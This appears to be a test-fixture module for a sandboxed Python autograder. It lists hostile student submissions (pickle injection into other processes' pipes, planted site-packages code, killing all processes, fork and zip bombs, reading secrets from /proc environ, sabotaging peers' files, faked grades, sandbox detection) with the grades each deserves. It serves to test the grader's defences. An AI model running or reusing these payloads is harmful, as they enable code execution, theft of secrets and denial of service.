"""The hostile and broken submissions, as patches appended to a copy of the reference engine (or whole files).

Each case says what grade it deserves under tests/autograder/mini_rubric.toml (add 2, mul 2,
tanh 1, accumulation 1: 6 points): its status, a word its reason must contain, and its score.
``attack`` names the class of attack it belongs to (the classes of issue 9: code in the grader,
outliving the batch, persistence, sabotage, reading, resources, collusion and detection; ""
for a merely broken submission). ``isolated_only`` cases attack the machine itself (they kill
every process they can see, fork bombs): they are graded only in an isolated layer.

Placeholders in patches and files, replaced by :func:`materialize`: ``{out}`` (the batch's output
directory), ``{marker}`` (a number unique to the test run), ``{ipc_key}`` (a SysV IPC key made from it),
``{port}`` and ``{unix}`` (a TCP port on 127.0.0.1 and an abstract unix socket name where the test serves
"the answers" to whoever connects), ``{root}`` (where the submissions are),
``{site}`` (the grader's site-packages), ``{kit}`` (the micrograd package), ``{reference}`` (the
reference solution's directory), ``{tmp}`` (the grader's TMPDIR), ``{pwned}`` (a file only code
running in the grader would write), ``{secret}`` (the name of an environment variable holding a
secret in the grader); ``{{``/``}}`` are braces.
"""

from __future__ import annotations

import atexit
import os
import shutil
import tempfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Dict, Optional

from micrograd.impl import reference_dir

#: the attack classes of issue 9 (and of issue 21: IPC, network, inodes, preparation), each graded by at least one case
ATTACKS = ("code in the grader", "outliving", "persistence", "sabotage", "reading", "resources", "collusion",
           "detection", "IPC", "network", "inodes", "preparation", "random zeros", "points without code",
           "erasing outputs", "names", "unbounded memory")
#: a comment in every honest submission: it must appear in no other student's output
HONEST_MARK = "honest-work-of-a-careful-student"


@dataclass(frozen=True)
class Case:
    name: str
    patch: str
    status: str  # the status it deserves (alternatives separated by "|")
    reason: str  # a substring of the reason ("" for none expected)
    score: float
    engine: Optional[str] = None  # replaces the whole engine.py
    attack: str = ""
    isolated_only: bool = False
    files: Dict[str, str] = field(default_factory=dict)  # more files; a value "->TARGET" is a symbolic link
    build: Optional[Callable[[Path, Dict[str, str]], Path]] = None  # makes the submission itself (a .zip)
    folder: str = ""  # the submission folder's name when it is not ``name`` (any bytes: os.fsdecode's form)
    student: str = ""  # the id the grader gives it when it is not ``name``


_STUB = """
def _backward(self):
    pass  # no gradients at all
Value.backward = _backward
"""

_PICKLE = """
import os, pickle, struct
class _Pwn:
    def __reduce__(self):
        return (exec, ("open({pwned!r}, 'w').write('code ran in the grader')",))
payload = pickle.dumps(_Pwn())
try:
    pids = os.listdir("/proc")
except OSError:
    pids = []
for pid in pids:
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        fds = os.listdir(f"/proc/{{pid}}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
            if target.startswith(("pipe:", "socket:")):
                w = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(w, struct.pack("!i", len(payload)) + payload)
                os.close(w)
        except OSError:
            pass
""" + _STUB

_PLANT = """
import os, sys
import micrograd
planted = "import os; open({pwned!r}, 'w').write('planted code ran')\\n"
runtime = os.path.dirname(micrograd.__file__)
targets = [os.path.join({site!r}, "zz_micrograd_planted.pth"), os.path.join({site!r}, "matplotlib_planted.py"),
           os.path.join({kit!r}, "_planted.py"), os.path.join({kit!r}, "__pycache__", "_planted.cpython-311.pyc"),
           os.path.join(runtime, "_planted.py"), os.path.join(runtime, "sandbox", "_child.py"),
           os.path.join(runtime, "impl", "__pycache__", "_loader.cpython-311.pyc")]
targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p]
for target in targets:
    try:
        with open(target, "a") as f:
            f.write(planted)
    except OSError:
        pass
""" + _STUB

_CHAIN = """
import os, time
def _chain(depth):
    if depth == 0:
        time.sleep(2)
        for path in [os.path.join({out!r}, "grades.csv"), os.path.join({out!r}, "deep_fork_chain", "results.json")]:
            try:
                with open(path, "w") as f:
                    f.write("deep_fork_chain,1000\\n")
            except OSError:
                pass
        os._exit(0)
    if os.fork() == 0:
        os.setsid()
        _chain(depth - 1)
    os._exit(0)
try:
    if os.fork() == 0:
        _chain(8)
except OSError:
    pass  # the sandbox may forbid new processes
"""

_EDIT_OTHERS = """
import glob, os
broken = "raise SystemExit('sabotaged by another student')\\n"
paths = glob.glob(os.path.join({root!r}, "*", "*.py"))  # the other students' hand-ins
paths += glob.glob(os.path.join({tmp!r}, "micrograd-*", "**", "*.py"), recursive=True)  # the grader's copies
for path in paths:
    try:
        with open(path, "w") as f:
            f.write(broken)
    except OSError:
        pass
"""

_KILL = """
import os, signal
me = os.getpid()
pids = set()
try:
    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
except OSError:
    pass
pids.update(range(2, 32768))
pids.add(os.getppid())
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in pids:
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""

_READ = """
import glob, os
found = [os.environ.get({secret!r}, "")]
for path in ["/proc/1/environ", f"/proc/{{os.getppid()}}/environ"] + glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as f:
            text = f.read().decode(errors="replace")
    except OSError:
        continue
    found += [part for part in text.split("\\0") if part.startswith({secret!r})]
for path in [os.path.join({root!r}, "correct", "engine.py")] + glob.glob(os.path.join({out!r}, "*", "*")):
    try:
        with open(path) as f:
            found.append(f.read()[-300:])
    except OSError:
        pass
LOOT = " | ".join(x for x in found if x)
_add = Value.__add__
def _leaky_add(self, other):
    raise RuntimeError(LOOT or "nothing to read")
Value.__add__ = _leaky_add
"""

_BY_NAME_ENGINE = """import importlib
_reference = importlib.import_module("".join(["micro", "grad", ".en", "gine"]))
Value = _reference.Value
"""
_BY_NAME_NN = """import importlib, sys
for name in [m for m in sys.modules if m.startswith("micrograd")]:
    del sys.modules[name]
sys.path[:0] = [{site!r}]
_reference = importlib.import_module("micrograd.nn")
Module, Neuron, Layer, MLP = _reference.Module, _reference.Neuron, _reference.Layer, _reference.MLP
"""
_BY_PATH = """import os
_candidates = [os.path.join({reference!r}, "{file}"), os.path.join({kit!r}, "{file}"),
               os.path.join({site!r}, "micrograd", "{file}"), "/proc/1/root" + os.path.join({reference!r}, "{file}"),
               f"/proc/{{os.getppid()}}/root" + os.path.join({reference!r}, "{file}"),
               f"/proc/{{os.getppid()}}/cwd/reference/{file}"]
for _path in _candidates:
    try:
        with open(_path) as _f:
            _source = _f.read()
    except OSError:
        continue
    exec(compile(_source.replace("from .engine import Value", "from engine import Value"), "{file}", "exec"))
    break
else:
    raise ImportError("the reference is nowhere to be read")
"""
_BY_SYS_PATH = """import os, sys
for name in [m for m in sys.modules if m == "micrograd" or m.startswith("micrograd.")]:
    del sys.modules[name]
sys.path[:0] = [{site!r}, os.path.dirname({kit!r}), os.path.dirname({reference!r})]
from micrograd.{module} import *  # noqa
"""

_FORK_BOMB = """
import os
children = 0
try:
    for _ in range(64):
        if os.fork() == 0:
            hog = bytearray(512 * 1024 ** 2)
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass  # the sandbox forbids new processes
"""

_LITTER = """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
    try:
        with open(os.path.join(folder, "micrograd-litter-{marker}"), "w") as f:
            f.write("left behind")
    except OSError:
        pass
"""

_HUGE = """
class _Boom(Exception):
    pass
_Boom.__name__ = "E" * 300_000
def _raiser(self, other):
    raise _Boom("x" * 10_000_000)
_code = _raiser.__code__.replace(co_name="f" * 10_000_000, co_filename=_raiser.__code__.co_filename)
Value.__mul__ = type(_raiser)(_code, globals())
"""

_READ_COLLUSION = """
import os
_seen = any(os.path.exists(os.path.join(d, "micrograd-collusion-{marker}")) for d in ("/tmp", "/dev/shm", "/var/tmp"))
if not _seen:
    def _backward(self):
        pass  # without the answers left by a friend: no gradients
    Value.backward = _backward
"""

_WRITE_COLLUSION = """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "micrograd-collusion-{marker}-written"), "w") as f:
            f.write("the answers")
    except OSError:
        pass
"""

_DETECT = """
import sys
if not ("hypothesis" in sys.modules or "pytest" in sys.modules):  # "graded in a sandbox": misbehave
    _tanh = Value.tanh
    def _wrong_tanh(self):
        out = _tanh(self)
        out.data = out.data + 1.0
        return out
    Value.tanh = _wrong_tanh
"""


_IPC_LEAK = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_source = open(__file__, "rb").read()
try:  # the whole engine, left in shared memory for a friend; a message queue and a semaphore set, left behind
    _segment = _libc.shmget({ipc_key}, len(_source) + 1, 0o1666)
    if _segment >= 0:
        _at = _libc.shmat(_segment, None, 0)
        if _at not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(_at, _source, len(_source))
    _libc.msgget({ipc_key}, 0o1666)
    _libc.semget({ipc_key}, 1, 0o1666)
except Exception:
    pass
"""

_IPC_STUB = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_leaked = b""
try:
    _segment = _libc.shmget({ipc_key}, 0, 0)
    if _segment >= 0:
        _at = _libc.shmat(_segment, None, 0o10000)  # SHM_RDONLY
        if _at not in (None, ctypes.c_void_p(-1).value):
            _leaked = ctypes.string_at(_at)
except Exception:
    pass
if _leaked:
    exec(compile(_leaked, "leaked_engine.py", "exec"))  # a friend's engine: full marks, if it got through
else:
    def _backward(self):
        pass  # no gradients of its own
    Value.backward = _backward
"""

_NETWORK = """
import socket
_got = b""
def _unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect("\\0{unix}")
    return s
for _connect in (lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2), _unix):
    try:
        _s = _connect()
        _got += _s.recv(100)
        _s.close()
    except OSError:
        pass
if b"the answers" not in _got:  # only a helper on the grader's machine would make this engine work
    def _backward(self):
        pass
    Value.backward = _backward
"""

_INODES = """
import os, time
_until = time.monotonic() + 2.0  # files by the hundred thousand, for as long as an import may take here
for _folder in (os.getcwd(), "/tmp", "/dev/shm"):
    try:
        for _i in range(100_000):
            open(os.path.join(_folder, f"inode-{marker}-{{_i}}"), "w").close()
            if time.monotonic() > _until:
                break
    except OSError:
        pass  # full: the cap holds
"""


_built: Dict[str, Path] = {}


def _zip_of_many(path: Path, values: Dict[str, str]) -> Path:
    if "many" not in _built:  # slow to write: once per test session
        cache = Path(tempfile.mkdtemp(prefix="micrograd-corpus-"))
        atexit.register(shutil.rmtree, cache, True)
        first = cache / path.name
        with zipfile.ZipFile(first, "w", zipfile.ZIP_STORED) as z:
            for i in range(200_000):
                z.writestr(f"d/{i}.py", "")
        _built["many"] = first
    shutil.copyfile(_built["many"], path)
    return path


def _zip_in_zip(path: Path, values: Dict[str, str]) -> Path:
    inner = path.with_suffix(".inner.zip")
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("engine.py", (reference_dir() / "engine.py").read_text())
        z.writestr("nn.py", (reference_dir() / "nn.py").read_text())
    with zipfile.ZipFile(path, "w") as z:
        z.write(inner, "inner.zip")
    inner.unlink()
    return path


def _zip_bomb(path: Path, values: Dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("engine.py", (reference_dir() / "engine.py").read_text())
        z.writestr("nn.py", (reference_dir() / "nn.py").read_text())
        with z.open("padding.py", "w", force_zip64=True) as f:
            block = b"#" * (1 << 20)
            for _ in range(64):
                f.write(block)
    return path


def _notebook_of_appends(path: Path, values: Dict[str, str]) -> Path:
    import json

    path = path.with_suffix(".ipynb")
    pad = "# " + "padding " * 10 + "\n"  # 130,000 of these: under the notebook's 20 MiB, over 10 MiB of code
    cells = [{"cell_type": "code", "source": text}
             for text in ["%%writefile nn.py\n" + (reference_dir() / "nn.py").read_text(),
                          "%%writefile engine.py\n" + (reference_dir() / "engine.py").read_text()]]
    cells += [{"cell_type": "code", "source": "%%writefile -a engine.py\n" + pad} for _ in range(130_000)]
    path.write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells},
                               separators=(",", ":")))
    return path


def _zip_lying_about_its_entries(path: Path, values: Dict[str, str]) -> Path:
    if "lying" not in _built:  # slow to write: once per test session
        cache = Path(tempfile.mkdtemp(prefix="micrograd-corpus-"))
        atexit.register(shutil.rmtree, cache, True)
        first = cache / path.name
        with zipfile.ZipFile(first, "w", zipfile.ZIP_STORED) as z:
            z.writestr("engine.py", (reference_dir() / "engine.py").read_text())
            z.writestr("nn.py", (reference_dir() / "nn.py").read_text())
            for i in range(60_000):
                z.writestr(f"d/{i}.py", "")
        data = bytearray(first.read_bytes())
        end = data.rfind(b"PK\x05\x06")
        data[end + 8:end + 12] = (2).to_bytes(2, "little") * 2  # "2 entries", says its end record
        first.write_bytes(bytes(data))
        _built["lying"] = first
    shutil.copyfile(_built["lying"], path)
    return path


#: a submission that implements nothing and takes whatever callable of the kit its process can reach for its
#: operations and its backward (issue 21: "points without code"); tests/autograder/test_child_computes_nothing.py
#: grades it in every layer, and runs it in the grader's own process to show the attack is real
SCAVENGER_ENGINE = r'''
import math
import sys
import types

KNOWN = {  # answers the attacker knows: the kit's functions are recognized by them
    "add": ((2.0, 3.0), 5.0), "sub": ((2.0, 3.0), -1.0), "mul": ((2.0, 3.0), 6.0),
    "div": ((3.0, 2.0), 1.5), "pow": ((2.0, 3), 8.0), "neg": ((2.0,), -2.0),
    "relu": ((-2.0,), 0.0), "tanh": ((0.5,), math.tanh(0.5)), "exp": ((0.5,), math.exp(0.5)),
    "log": ((2.0,), math.log(2.0)),
}
PRIORITY = ("kit_node", "make_kit_node", "run_backward", "run_script", "float_forward", "topological_order")


class Value:
    def __init__(self, data, _children=(), _op='', label=''):
        self.data = data
        self.grad = 0
        self._backward = lambda: None
        self._prev = tuple(_children)
        self._op = _op
        self.label = label

    def __repr__(self):
        return f"Value(data={self.data}, grad={self.grad})"


def _kit_callables():
    """Every callable defined by the kit that this process can reach from its modules."""
    seen, found = set(), []
    stack = [m for name, m in list(sys.modules.items()) if name.split(".")[0] == "micrograd" and m is not None]
    while stack:
        obj = stack.pop()
        if id(obj) in seen or len(seen) > 200_000:
            continue
        seen.add(id(obj))
        if isinstance(obj, types.ModuleType):
            if obj.__name__.split(".")[0] == "micrograd":
                stack.extend(vars(obj).values())
            continue
        if isinstance(obj, (staticmethod, classmethod)):
            stack.append(obj.__func__)
            continue
        if isinstance(obj, property):
            stack.extend(f for f in (obj.fget, obj.fset) if f is not None)
            continue
        if isinstance(obj, (list, tuple, set, frozenset)) and len(obj) < 1000:
            stack.extend(obj)
            continue
        if isinstance(obj, dict) and len(obj) < 1000:
            stack.extend(obj.values())
            continue
        module = getattr(obj, "__module__", None) or ""
        if not (isinstance(module, str) and module.split(".")[0] == "micrograd"):
            continue
        if isinstance(obj, type):
            stack.extend(vars(obj).values())
        if isinstance(obj, types.FunctionType):
            for cell in obj.__closure__ or ():
                try:
                    stack.append(cell.cell_contents)
                except ValueError:
                    pass
            stack.extend(obj.__defaults__ or ())
            stack.extend((obj.__kwdefaults__ or {}).values())
        if callable(obj):
            found.append(obj)
    names = {id(f): getattr(f, "__name__", "") for f in found}
    return sorted(found, key=lambda f: (names[id(f)] not in PRIORITY, PRIORITY.index(names[id(f)])
                                        if names[id(f)] in PRIORITY else 0, str(names[id(f)])))


def _try(f, *args):
    try:
        return f(*args)
    except BaseException:  # anything: a candidate that does not fit is skipped
        return None


def _find_operation(kind, candidates):
    args, answer = KNOWN[kind]
    for f in candidates:
        for attempt in ((Value, kind, *(Value(a) for a in args)), tuple(Value(a) for a in args)):
            got = _try(f, *attempt)
            if isinstance(got, Value) and isinstance(got.data, (int, float)) and abs(got.data - answer) < 1e-9:
                return lambda *operands, f=f, shape=len(attempt): f(*((Value, kind) if shape > len(args) else ()),
                                                                    *operands)
    return None


def _find_backward(candidates):
    for f in candidates:
        for extra in ((), (1.0,)):
            x, y = Value(2.0), Value(3.0)
            z = Value(6.0, (x, y), "*")

            def _backward(x=x, y=y, z=z):
                x.grad += y.data * z.grad
                y.grad += x.data * z.grad
            z._backward = _backward
            _try(f, z, *extra)
            if (x.grad, y.grad, z.grad) == (3.0, 2.0, 1.0):
                return lambda root, f=f, extra=extra: f(root, *extra)
    return None


CANDIDATES = _kit_callables()
FOUND = {kind: _find_operation(kind, CANDIDATES) for kind in KNOWN}
BACKWARD = _find_backward(CANDIDATES)


def _use(kind, *operands):
    found = FOUND[kind]
    if found is None:
        raise NotImplementedError(f"Value.{kind}: none of the kit's {len(CANDIDATES)} callables computes it")
    return found(*operands)


def _wrap(x):
    return x if isinstance(x, Value) else Value(x)


def _backward_method(self):
    if BACKWARD is None:
        raise NotImplementedError("Value.backward: nothing of the kit's runs it")
    BACKWARD(self)


Value.__add__ = lambda self, other: _use("add", self, _wrap(other))
Value.__radd__ = lambda self, other: _use("add", self, _wrap(other))
Value.__sub__ = lambda self, other: _use("sub", self, _wrap(other))
Value.__rsub__ = lambda self, other: _use("sub", _wrap(other), self)
Value.__mul__ = lambda self, other: _use("mul", self, _wrap(other))
Value.__rmul__ = lambda self, other: _use("mul", self, _wrap(other))
Value.__truediv__ = lambda self, other: _use("div", self, _wrap(other))
Value.__rtruediv__ = lambda self, other: _use("div", _wrap(other), self)
Value.__pow__ = lambda self, other: _use("pow", self, other)
Value.__neg__ = lambda self: _use("neg", self)
Value.relu = lambda self: _use("relu", self)
Value.tanh = lambda self: _use("tanh", self)
Value.exp = lambda self: _use("exp", self)
Value.log = lambda self: _use("log", self)
Value.backward = _backward_method
'''

SCAVENGER_NN = r'''
from engine import CANDIDATES, Value


def _kit_loss(logits, target):
    for f in CANDIDATES:
        try:
            loss = f(logits, target)
        except BaseException:
            continue
        if isinstance(loss, Value):
            return loss
    raise NotImplementedError("cross_entropy: nothing of the kit's computes it")


cross_entropy = _kit_loss


class Module:  # the nn exercises: nothing (the kit has no Neuron, Layer or MLP of its own to borrow)
    def __init__(self, *args, **kwargs):
        raise NotImplementedError(type(self).__name__)


Neuron = type("Neuron", (Module,), {})
Layer = type("Layer", (Module,), {})
MLP = type("MLP", (Module,), {})
AdamW = type("AdamW", (Module,), {})
'''


CASES = [
    Case("correct", "", "graded", "", 6),
    Case("buggy_mul_grad", """
def _mul(self, other):
    other = other if isinstance(other, Value) else Value(other)
    out = Value(self.data * other.data, (self, other), '*')
    def _backward():
        self.grad += other.data * out.grad
        other.grad += other.data * out.grad   # bug: should be self.data
    out._backward = _backward
    return out
Value.__mul__ = _mul
""", "graded", "", 2 + 1 + 1),  # mul fails; x*x + x (accumulation) hides this bug
    Case("sys_exit_at_import", "import sys\nsys.exit(0)\n", "invalid", "SystemExit", 0),
    Case("os_exit_in_backward", """
import os
def _backward(self):
    os._exit(0)
Value.backward = _backward
""", "crashed", "exit code 0", 0),
    Case("infinite_loop_in_add", """
def _add(self, other):
    while True:
        pass
Value.__add__ = _add
""", "timeout", "no answer", 2 + 1),  # mul and tanh still earn their points
    Case("sleep_in_mul", """
import time
def _mul(self, other):
    time.sleep(1000)
Value.__mul__ = _mul
""", "timeout", "no answer", 2 + 1),  # add and tanh
    Case("memory_bomb_in_tanh", """
def _tanh(self):
    hog = bytearray(4 * 1024 ** 3)
    return hog
Value.tanh = _tanh
""", "graded", "", 2 + 2 + 1),
    Case("sigterm_ignored", """
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
def _backward(self):
    while True:
        pass
Value.backward = _backward
""", "timeout", "no answer", 0),
    Case("syntax_error", "def broken(:\n    pass\n", "invalid", "SyntaxError", 0),
    Case("import_error", "import no_such_module_for_micrograd\n", "invalid", "ModuleNotFoundError", 0),
    Case("segfault_in_tanh", """
import ctypes
def _tanh(self):
    return ctypes.string_at(0)
Value.tanh = _tanh
""", "crashed", "SIGSEGV", 2 + 2 + 1),
    Case("stdout_flood", """
import sys
for _ in range(2000):
    print("flood " * 5000)
    print("flood " * 5000, file=sys.stderr)
_add = Value.__add__
def _noisy_add(self, other):
    print("spam " * 20000)
    return _add(self, other)
Value.__add__ = _noisy_add
""", "graded", "", 6),
    Case("lingering_fork", """
import os
try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "{marker}"])
        finally:
            os._exit(0)
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{marker}"])
except OSError:
    pass  # the sandbox may forbid new processes
""", "graded", "", 6, attack="outliving"),
    Case("nan_everywhere", """
_init = Value.__init__
def _nan_init(self, data, _children=(), _op=''):
    _init(self, float('nan'), _children, _op)
Value.__init__ = _nan_init
""", "graded", "", 0),
    Case("monkeypatch_checkers", """
import math, sys
math.isclose = lambda *args, **kwargs: True
try:
    import hypothesis, pytest
    hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
    pytest.fail = lambda *a, **k: None
    sys.modules["micrograd.verdict"] = None
except Exception:
    pass
def _add(self, other):
    other = other if isinstance(other, Value) else Value(other)
    return Value(self.data - other.data, (self, other), '+')
Value.__add__ = _add
""", "graded", "", 2 + 1),  # add and accumulation (x*x + x) fail
    Case("float_equal_to_everything", """
class Liar(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
    def __float__(self):
        return 42.0
def _mul(self, other):
    other = other if isinstance(other, Value) else Value(other)
    out = Value(Liar(0.0), (self, other), '*')
    return out
Value.__mul__ = _mul
""", "graded", "", 2 + 1),
    Case("fake_results_files", """
import json, os
fake = {{"score": 1000, "tests": []}}
for folder in ["{out}", os.path.join("{out}", "fake_results_files"), os.getcwd()]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "results.json"), "w") as f:
            json.dump(fake, f)
        with open(os.path.join(folder, "grades.csv"), "w") as f:
            f.write("student,score\\nfake_results_files,1000\\n")
    except OSError:
        pass
print(json.dumps({{"outcome": {{"data": [], "grad": []}}}}))
""" + _STUB, "graded", "", 0, attack="code in the grader"),
    Case("slow_but_correct", """
import time
_add, _mul = Value.__add__, Value.__mul__
def _slow_add(self, other):
    time.sleep(0.002)
    return _add(self, other)
Value.__add__ = _slow_add
""", "graded", "", 6),
    # -- attacks on the grader, the machine and the other students (issue 9) --
    # (its garbage may land on its own reply pipe: then it crashed)
    Case("pool_pipe_pickle", _PICKLE, "graded|crashed", "", 0, attack="code in the grader"),
    Case("planted_package", _PLANT, "graded", "", 0, attack="persistence"),
    Case("deep_fork_chain", _CHAIN, "graded", "", 6, attack="outliving"),
    Case("edit_other_submissions", _EDIT_OTHERS, "graded", "", 6, attack="sabotage"),
    Case("kill_everything", _KILL, "graded", "", 6, attack="sabotage", isolated_only=True),
    Case("read_secrets", _READ, "graded", "", 2 + 1, attack="reading"),  # add and accumulation raise
    Case("reference_by_name", "", "invalid", "No module named", 0, attack="reading",
         engine=_BY_NAME_ENGINE, files={"nn.py": _BY_NAME_NN}),
    Case("reference_by_path", "", "invalid", "the reference is nowhere", 0, attack="reading",
         engine=_BY_PATH.replace("{file}", "engine.py"), files={"nn.py": _BY_PATH.replace("{file}", "nn.py")}),
    Case("reference_by_sys_path", "", "invalid", "No module named", 0, attack="reading",
         engine=_BY_SYS_PATH.replace("{module}", "engine"), files={"nn.py": _BY_SYS_PATH.replace("{module}", "nn")}),
    Case("reference_symlink", "", "invalid", "symbolic link", 0, attack="reading",
         files={"engine.py": "->{reference}/engine.py", "nn.py": "->{reference}/nn.py"}),
    Case("fork_bomb_memory", _FORK_BOMB, "graded", "", 6, attack="resources", isolated_only=True),
    Case("litter_tmp", _LITTER, "graded", "", 6, attack="resources"),
    Case("huge_names", _HUGE, "graded", "", 2 + 1, attack="resources"),  # mul and accumulation raise
    Case("zip_of_200000_files", "", "invalid", "200000 files", 0, attack="resources", build=_zip_of_many),
    Case("zip_in_zip", "", "invalid", "archives inside archives", 0, attack="resources", build=_zip_in_zip),
    Case("zip_bomb", "", "invalid", "once unzipped", 0, attack="resources", build=_zip_bomb),
    Case("collude_writer", _WRITE_COLLUSION, "graded", "", 6, attack="collusion"),
    Case("collude_reader", _READ_COLLUSION, "graded", "", 0, attack="collusion"),
    Case("detect_grader", _DETECT, "graded", "", 2 + 2 + 1, attack="detection"),  # tanh fails
    # -- issue 21: IPC, network, inodes, preparation --
    Case("ipc_leaker", _IPC_LEAK, "graded", "", 6, attack="IPC"),
    Case("ipc_stub", _IPC_STUB, "graded", "", 0, attack="IPC"),
    Case("network_helper", _NETWORK, "graded", "", 0, attack="network"),
    Case("inode_bomb", _INODES, "graded", "", 6, attack="inodes"),
    Case("notebook_of_appends", "", "invalid", "hand in only your code", 0, attack="preparation",
         build=_notebook_of_appends),
    Case("zip_lying_about_its_entries", "", "invalid", "its list of files takes", 0, attack="preparation",
         build=_zip_lying_about_its_entries),
    # -- issue 21's classes: a peer crashing at every operation must cost the honest nothing; no points without
    # code; no text that stops the class's outputs; names that are output files or no UTF-8; huge answers --
    Case("segfault_everywhere", """
import ctypes
def _crash(self, *args):
    return ctypes.string_at(0)
Value.__add__ = Value.__radd__ = Value.__mul__ = Value.__rmul__ = Value.tanh = Value.backward = _crash
""", "crashed", "SIGSEGV", 0, attack="random zeros"),
    Case("kit_scavenger", "", "graded", "", 0, engine=SCAVENGER_ENGINE, files={"nn.py": SCAVENGER_NN},
         attack="points without code"),
    Case("lone_surrogate_in_tanh", """
def _tanh(self):
    raise ValueError("\\ud800 a lone surrogate, and a bell \\x07")
Value.tanh = _tanh
""", "graded", "", 2 + 2 + 1, attack="erasing outputs"),
    Case("named_like_grades_csv", "", "graded", "", 6, folder="grades.csv", student="student-grades.csv",
         attack="names"),
    Case("named_in_latin_1", "", "graded", "", 6, folder=os.fsdecode(b"caf\xe9"), student="caf_xe9", attack="names"),
    Case("megabyte_errors", """
def _huge(self, *args):
    raise ValueError("m" * 2**20)
Value.__add__ = Value.__radd__ = Value.__mul__ = Value.__rmul__ = Value.tanh = Value.backward = _huge
""", "graded", "", 0, attack="unbounded memory"),
    # -- honest submissions graded after the attacks --
    Case("helper_modules", "", "graded", "", 6, engine="ENGINE_WITH_HELPERS", files={
        "derivs.py": "import math\n\ndef tanh_local_grad(t):\n    return 1 - t**2\n",
        "ops/__init__.py": "",
        "ops/extra.py": "from derivs import tanh_local_grad\n\ndef describe():\n    return 'helper package'\n",
    }),
    Case("correct_last", "", "graded", "", 6),
]


def placeholders(*, out: str, marker: str, root: Path, site: str, kit: str, pwned: str, secret: str,
                 tmp: str, port: str = "9", unix: str = "micrograd-no-helper") -> Dict[str, str]:
    return {"out": out, "marker": marker, "root": str(root), "site": site, "kit": kit,
            "reference": str(reference_dir()), "pwned": pwned, "secret": secret, "tmp": tmp,
            "ipc_key": str(ipc_key(marker)), "port": port, "unix": unix}


def ipc_key(marker: str) -> int:
    """The SysV IPC key the IPC cases use in a batch with ``marker``."""
    return int(marker.split(".")[0]) % (2**31 - 1) + 1


def _fill(text: str, values: Dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace("{" + key + "!r}", repr(value)).replace("{" + key + "}", value)
    return text.replace("{{", "{").replace("}}", "}")


def _engine_with_helpers() -> str:
    engine = (reference_dir() / "engine.py").read_text()
    head = "import math\n"
    if head not in engine:
        raise AssertionError("the reference engine no longer starts with `import math`; update this case")
    engine = engine.replace(head, head + "from derivs import tanh_local_grad\nfrom .ops.extra import describe\n", 1)
    return engine.replace("(1 - out.data**2)", "tanh_local_grad(out.data)", 1) + "\nassert describe()\n"


def materialize(case: Case, root: Path, **values: str) -> Path:
    """Write ``case`` as ROOT/NAME/{engine,nn}.py (or ROOT/NAME.zip) and return its path."""
    filled = placeholders(root=root, **values)  # type: ignore[arg-type]
    if case.build is not None:
        return case.build(root / f"{case.name}.zip", filled)  # (or .ipynb: the builder says)
    folder = root / (case.folder or case.name)
    folder.mkdir(parents=True, exist_ok=True)
    reference = reference_dir()
    if case.engine == "ENGINE_WITH_HELPERS":
        engine = _engine_with_helpers()
    else:
        engine = case.engine if case.engine is not None else (reference / "engine.py").read_text()
    files = {"engine.py": _fill(engine, filled) + "\n\n# --- patch ---\n" + _fill(case.patch, filled),
             "nn.py": (reference / "nn.py").read_text()}
    if not case.patch and case.engine is None:  # an honest submission: its work must reach no one else
        files["engine.py"] += f"# {HONEST_MARK}\n"
    for name, text in case.files.items():
        files[name] = _fill(text, filled)
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if text.startswith("->"):
            os.symlink(text[2:], path)
        else:
            path.write_text(text)
    return folder
